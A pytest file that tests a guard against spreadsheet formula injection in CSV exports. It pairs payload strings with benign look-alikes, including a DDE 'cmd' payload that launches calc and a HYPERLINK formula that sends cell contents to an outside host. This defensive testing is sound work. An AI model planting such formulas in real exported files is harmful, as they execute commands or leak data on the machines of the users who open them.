import csv
from importlib.resources import files

import pytest

from analysis.runs.spreadsheet import guarded, unguarded

FORMULAS = ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uff1d1", '=HYPERLINK("http://a/?"&A1,"b")', "-"]
FORMULAS += ["+ cmd|' /C calc'!A0", "- f(A1)", "+ A1 & B1", "-dropout", "+ ", "+ words\n=1", "'+ words"]
PLAIN = [
    "",
    "dropout=0.2",
    "a-b",
    "'t Hooft",
    "'",
    "''",
    " =1",
    "1",
    "no @",
    "+ non-linear intensity transformation",
    "- dropout 0.5",
]


@pytest.mark.parametrize("name", FORMULAS)
def test_no_cell_begins_as_a_formula_does(name: str) -> None:
    assert guarded(name) == f"'{name}"


@pytest.mark.parametrize("name", PLAIN)
def test_other_names_stay_as_they_are(name: str) -> None:
    assert guarded(name) == name


@pytest.mark.parametrize("name", [*FORMULAS, *PLAIN, *(f"'{name}" for name in FORMULAS), "'''=1"])
def test_names_come_back(name: str) -> None:
    assert unguarded(guarded(name)) == name
    assert guarded(guarded(name)) != guarded(name) or name in PLAIN


def test_the_rows_of_the_paper_and_of_the_catalogue_stay_as_they_are() -> None:
    rows = files("analysis.published").joinpath("tables.csv").read_text(encoding="utf-8").splitlines()
    names = [row[5] for row in csv.reader(rows) if len(row) > 5]
    assert "+ in-painting" in names
    assert [name for name in names if guarded(name) != name] == []
